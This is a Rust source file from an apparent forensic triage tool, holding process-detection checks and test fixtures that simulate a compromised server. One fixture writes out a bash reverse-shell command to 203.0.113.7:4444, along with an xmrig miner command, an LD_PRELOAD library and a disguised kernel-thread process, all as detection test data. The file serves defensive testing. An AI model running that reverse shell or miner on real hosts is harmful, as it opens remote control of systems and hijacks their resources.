//! Checks of the `process` area: the running processes of the live host, from the shared scene
//! (see [`crate::Context::scene`]).

use huoyan_artifacts::proc::Process;
use huoyan_core::Outcome;
use huoyan_snapshot::collect::Scene;

use crate::{Check, Context};

mod deleted_exe;
mod deleted_open_files;
mod fake_kthread;
mod known_tool;
mod ld_preload;
mod malicious_cmdline;
mod miner;
mod own_chain;
mod script_writable;
mod service_user_shell;
mod socket_stdio;
mod writable_exe;

/// Every check of this area.
pub static ALL: &[&dyn Check] = &[
    &deleted_exe::DeletedExecutable,
    &deleted_open_files::DeletedOpenFiles,
    &writable_exe::ExecutableInWritablePlace,
    &fake_kthread::FakeKernelThread,
    &script_writable::ScriptFromWritablePlace,
    &socket_stdio::SocketOnStdio,
    &ld_preload::PreloadInEnvironment,
    &service_user_shell::ServiceUserShell,
    &known_tool::KnownToolName,
    &miner::MinerActivity,
    &malicious_cmdline::MaliciousCommandLine,
    &own_chain::OwnChain,
];

/// The live scene, or `None` (recording why when /proc could not be read).
pub(crate) fn scene<'a>(ctx: &'a Context, out: &mut Outcome) -> Option<&'a Scene> {
    match ctx.scene()? {
        Ok(scene) => Some(scene),
        Err(gap) => {
            if !out.gaps.contains(gap) {
                out.gap(gap.clone());
            }
            None
        }
    }
}

/// True for paths anyone can write to, or in-memory filesystems, where attackers stage tools.
/// Programs that only start another one: a chain of these above huoyan is the responder's
/// (`sudo time huoyan …`, `sh -c`, `timeout`, `cargo test`), not the host's.
const WRAPPERS: &[&str] = &[
    "sudo", "su", "doas", "runuser", "time", "timeout", "nice", "ionice", "env", "nohup", "stdbuf",
    "setsid", "taskset", "chrt", "script", "strace", "ltrace", "valgrind", "xargs", "make",
    "cargo", "rustup", "flock", "watch", "sh", "bash", "dash", "zsh", "ksh", "mksh", "fish", "ash",
    "busybox", "huoyan",
];

/// Longest chain of wrappers followed above huoyan.
const MAX_OWN_CHAIN: usize = 16;

/// huoyan's own process and the wrappers above it, found by following parent pids from
/// `self_pid` while the parent is a wrapper (a login shell's `sshd`, `systemd`, `tmux` end it).
/// huoyan's own chain in the scene: empty for an image (no live /proc).
pub(crate) fn own_processes<'a>(ctx: &Context, scene: &'a Scene) -> Vec<&'a Process> {
    if ctx.proc_fs.is_some() {
        own_chain(scene, std::process::id())
    } else {
        Vec::new()
    }
}

pub(crate) fn own_chain(scene: &Scene, self_pid: u32) -> Vec<&Process> {
    let mut chain = Vec::new();
    let mut pid = self_pid;
    while chain.len() < MAX_OWN_CHAIN {
        let Some(p) = scene.processes.iter().find(|p| p.pid == pid) else {
            break;
        };
        let name = base_name(&p.comm).trim_start_matches('-');
        if pid != self_pid && !(WRAPPERS.contains(&name) || name.starts_with("cargo-")) {
            break;
        }
        chain.push(p);
        if p.ppid <= 1 || p.ppid == pid {
            break;
        }
        pid = p.ppid;
    }
    chain
}

/// The processes a live check examines: all of the scene's but huoyan's own chain
/// ([`own_chain`], on the live host only), which `process.own_chain` records once.
pub(crate) fn examined<'a>(ctx: &Context, scene: &'a Scene) -> Vec<&'a Process> {
    let own = own_processes(ctx, scene);
    scene
        .processes
        .iter()
        .filter(|p| !own.iter().any(|o| o.pid == p.pid))
        .collect()
}

pub(crate) fn is_writable_place(path: &str) -> bool {
    [
        "/tmp/",
        "/var/tmp/",
        "/dev/shm/",
        "/run/shm/",
        "/var/run/shm/",
        "/dev/mqueue/",
    ]
    .iter()
    .any(|p| path.starts_with(p))
}

/// True when a directory component (not the file name) starts with a dot: `/root/.x/y`,
/// `/tmp/... /z`. Dot-directories under home directories that programs use normally
/// (`.cache`, `.local`, `.config`, `.cargo`, `.rustup`, `.npm`, `.vscode-server`) are not hidden
/// in that sense.
pub(crate) fn in_hidden_dir(path: &str) -> bool {
    let mut parts: Vec<&str> = path.split('/').filter(|p| !p.is_empty()).collect();
    parts.pop();
    parts.iter().any(|p| {
        p.starts_with('.')
            && !matches!(
                *p,
                ".cache"
                    | ".local"
                    | ".config"
                    | ".cargo"
                    | ".rustup"
                    | ".npm"
                    | ".nvm"
                    | ".vscode-server"
                    | ".pyenv"
                    | ".sdkman"
                    | ".m2"
                    | ".gradle"
                    | ".git"
            )
    })
}

/// The file name of a path.
pub(crate) fn base_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Shells and script interpreters.
pub(crate) fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "csh" | "tcsh" | "ash" | "busybox" | "fish"
    )
}

/// Script interpreters (shells included).
pub(crate) fn is_interpreter(name: &str) -> bool {
    is_shell(name)
        || name.starts_with("python")
        || name.starts_with("perl")
        || name.starts_with("php")
        || name.starts_with("ruby")
        || name.starts_with("lua")
        || matches!(
            name,
            "node" | "nodejs" | "awk" | "gawk" | "mawk" | "tclsh" | "java"
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn path_classes() {
        assert!(is_writable_place("/dev/shm/x"));
        assert!(!is_writable_place("/usr/bin/tmp"));
        assert!(in_hidden_dir("/root/.x/miner"));
        assert!(!in_hidden_dir("/root/.cache/x"));
        assert!(!in_hidden_dir("/usr/bin/.hidden-file"));
        assert!(is_interpreter("python3.11"));
        assert!(!is_interpreter("sshd"));
    }
}

/// Scenes built by hand for the process and network checks' positive and benign cases.
#[cfg(test)]
pub(crate) mod fixtures {
    use huoyan_artifacts::proc::fds::OpenFile;
    use huoyan_artifacts::proc::{LinkTarget, Process};
    use huoyan_artifacts::sockets::{InetProto, InetSocket, Owned, Owners};
    use huoyan_core::{Outcome, Root, Severity, Window};
    use huoyan_snapshot::collect::Scene;

    use crate::{run_checks, Context, Selection};

    pub fn process(pid: u32, user: &str, exe: &str, cmdline: &[&str]) -> Process {
        Process {
            pid,
            ppid: 1,
            comm: super::base_name(exe).chars().take(15).collect(),
            state: 'S',
            user: Some(user.to_string()),
            euser: Some(user.to_string()),
            cmdline: cmdline.iter().map(|s| s.to_string()).collect(),
            exe: Some(LinkTarget::Path {
                path: exe.to_string(),
                deleted: false,
                memfd: false,
            }),
            start_time: Some("2026-11-27T02:00:00Z".parse().expect("ts")),
            ..Process::default()
        }
    }

    pub fn tcp(
        local: &str,
        lport: u16,
        remote: &str,
        rport: u16,
        state: &str,
        inode: u64,
        pid: u32,
    ) -> Owned<InetSocket> {
        Owned {
            socket: InetSocket {
                proto: InetProto::Tcp,
                local_ip: local.parse().expect("ip"),
                local_port: lport,
                remote_ip: remote.parse().expect("ip"),
                remote_port: rport,
                state: state.to_string(),
                listening: state == "LISTEN",
                tx_queue: 0,
                rx_queue: 0,
                uid: 0,
                inode,
            },
            owners: Owners {
                net_ns: Some(4026531840),
                pids: vec![pid],
            },
        }
    }

    pub fn socket_fd(pid: u32, fd: &str, inode: u64) -> OpenFile {
        OpenFile {
            pid,
            fd: fd.to_string(),
            target: LinkTarget::Socket { inode },
            deleted: false,
            size: None,
            inode: Some(inode),
            kind: None,
        }
    }

    /// A quiet server: sshd and nginx listening, an admin's bash on a terminal, a web request.
    pub fn benign() -> Scene {
        let mut scene = Scene {
            now: "2026-11-27T03:00:00Z".parse().expect("ts"),
            ..Scene::default()
        };
        scene.processes = vec![
            process(
                500,
                "root",
                "/usr/sbin/sshd",
                &["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
            ),
            process(
                600,
                "root",
                "/usr/sbin/nginx",
                &["nginx: master process /usr/sbin/nginx"],
            ),
            process(
                601,
                "www-data",
                "/usr/sbin/nginx",
                &["nginx: worker process"],
            ),
            process(
                700,
                "www-data",
                "/usr/sbin/php-fpm8.2",
                &["php-fpm: pool www"],
            ),
            process(900, "alice", "/usr/bin/bash", &["-bash"]),
            process(
                901,
                "alice",
                "/usr/bin/python3.11",
                &["python3", "/home/alice/tools/report.py"],
            ),
        ];
        scene.sockets.inet = vec![
            tcp("0.0.0.0", 22, "0.0.0.0", 0, "LISTEN", 10, 500),
            tcp("0.0.0.0", 80, "0.0.0.0", 0, "LISTEN", 11, 600),
            tcp(
                "10.0.0.5",
                80,
                "198.51.100.23",
                51000,
                "ESTABLISHED",
                12,
                601,
            ),
            tcp(
                "10.0.0.5",
                43000,
                "151.101.2.132",
                443,
                "ESTABLISHED",
                13,
                901,
            ),
        ];
        scene.open_files = vec![socket_fd(601, "7", 12), socket_fd(901, "3", 13)];
        scene
    }

    /// The same server after the attack.
    pub fn compromised() -> Scene {
        let mut scene = benign();
        let mut deleted = process(4242, "www-data", "/dev/shm/.x", &["/dev/shm/.x"]);
        deleted.exe = Some(LinkTarget::Path {
            path: "/dev/shm/.x".into(),
            deleted: true,
            memfd: false,
        });
        let mut kworker = process(4243, "root", "/usr/lib/.cache0/kw", &["[kworker/1:2]"]);
        kworker.comm = "kw".into();
        let shell = process(4244, "www-data", "/usr/bin/bash", &["bash", "-i"]);
        let mut miner = process(
            4245,
            "root",
            "/root/.x/xmrig",
            &["xmrig", "-o", "stratum+tcp://pool.example:3333"],
        );
        miner.cpu_seconds = 3000.0;
        let mut preload = process(4246, "root", "/usr/sbin/cron", &["/usr/sbin/cron", "-f"]);
        preload
            .env
            .insert("LD_PRELOAD".into(), "/usr/lib/libext.so".into());
        let bind = process(
            4247,
            "www-data",
            "/usr/bin/python3.11",
            &["python3", "/tmp/.b.py"],
        );
        scene
            .processes
            .extend([deleted, kworker, shell, miner, preload, bind]);
        scene.processes.push(process(
            4248,
            "root",
            "/usr/bin/bash",
            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
        ));
        scene.sockets.inet.extend([
            tcp(
                "10.0.0.5",
                43122,
                "203.0.113.7",
                4444,
                "ESTABLISHED",
                20,
                4244,
            ),
            tcp(
                "10.0.0.5",
                43123,
                "198.51.100.9",
                3333,
                "ESTABLISHED",
                21,
                4245,
            ),
            tcp("0.0.0.0", 31337, "0.0.0.0", 0, "LISTEN", 22, 4247),
        ]);
        scene.open_files.extend([
            socket_fd(4244, "0", 20),
            socket_fd(4244, "1", 20),
            socket_fd(4244, "2", 20),
            socket_fd(4245, "5", 21),
            socket_fd(4247, "3", 22),
        ]);
        scene
    }

    pub fn run(scene: Scene, area: &str) -> Outcome {
        let dir = tempfile::tempdir().expect("tempdir");
        let mut ctx = Context::new(Root::new(dir.path()).expect("root"), Window::default());
        ctx.set_scene(scene);
        run_checks(
            &ctx,
            &Selection {
                only: vec![area.to_string()],
                ..Selection::default()
            },
        )
    }

    #[test]
    fn own_wrapper_chain_is_found_up_to_the_login() {
        let mut scene = benign();
        let mut chain = vec![
            process(50, "root", "/usr/sbin/sshd", &["sshd: alice [priv]"]),
            process(51, "alice", "/usr/bin/bash", &["-bash"]),
            process(
                52,
                "root",
                "/usr/bin/sudo",
                &["sudo", "time", "./huoyan", "triage"],
            ),
            process(53, "root", "/usr/bin/time", &["time", "./huoyan", "triage"]),
            process(54, "root", "/tmp/huoyan", &["./huoyan", "triage"]),
        ];
        for (i, p) in chain.iter_mut().enumerate().skip(1) {
            p.ppid = 50 + i as u32 - 1;
        }
        chain[1].comm = "-bash".into();
        scene.processes.extend(chain);
        let own: Vec<u32> = super::own_chain(&scene, 54).iter().map(|p| p.pid).collect();
        // sshd ends the chain: the login itself stays examined.
        assert_eq!(own, vec![54, 53, 52, 51]);
        // A pid that is not a wrapper's child chain: only itself.
        assert_eq!(
            super::own_chain(&scene, 601)
                .iter()
                .map(|p| p.pid)
                .collect::<Vec<_>>(),
            vec![601]
        );
    }

    /// Live: the test process itself (and the shell or cargo above it) is never a finding of
    /// the process checks, and the exclusion is recorded.
    #[test]
    fn live_run_leaves_out_its_own_chain() {
        let Some(proc_fs) = huoyan_core::ProcFs::live() else {
            eprintln!("skipped: no /proc");
            return;
        };
        let dir = tempfile::tempdir().expect("tempdir");
        let mut ctx = Context::new(Root::new(dir.path()).expect("root"), Window::default());
        ctx.proc_fs = Some(proc_fs);
        let out = run_checks(
            &ctx,
            &Selection {
                only: vec!["process".to_string()],
                ..Selection::default()
            },
        );
        let me = std::process::id();
        let own = out
            .findings
            .iter()
            .filter(|f| f.check_id == "process.own_chain")
            .collect::<Vec<_>>();
        assert_eq!(own.len(), 1, "{own:#?}");
        assert_eq!(own[0].evidence["excluded"][0]["pid"], me);
        assert!(out
            .findings
            .iter()
            .filter(|f| f.check_id != "process.own_chain")
            .all(|f| !f.pids.contains(&me)));
    }

    #[test]
    fn benign_scene_is_quiet() {
        for area in ["process", "network"] {
            let out = run(benign(), area);
            let loud: Vec<_> = out
                .findings
                .iter()
                .filter(|f| f.severity > Severity::Low)
                .collect();
            assert!(loud.is_empty(), "{area}: {loud:#?}");
        }
    }

    #[test]
    fn compromised_scene_is_caught() {
        let out = run(compromised(), "process");
        let expect = [
            ("process.deleted_exe", 4242),
            ("process.writable_exe", 4242),
            ("process.fake_kthread", 4243),
            ("process.socket_stdio", 4244),
            ("process.service_user_shell", 4244),
            ("process.known_tool", 4245),
            ("process.miner", 4245),
            ("process.ld_preload", 4246),
            ("process.script_writable", 4247),
            ("process.malicious_cmdline", 4248),
        ];
        for (check, pid) in expect {
            assert!(
                out.findings
                    .iter()
                    .any(|f| f.check_id == check && f.pids.contains(&pid)),
                "{check} did not report pid {pid}: {:#?}",
                out.findings
            );
        }
        let net = run(compromised(), "network");
        assert!(net
            .findings
            .iter()
            .any(|f| f.check_id == "network.outbound" && f.ips == ["203.0.113.7"]));
        assert!(net
            .findings
            .iter()
            .any(|f| f.check_id == "network.listener" && f.pids.contains(&4247)));
    }
}
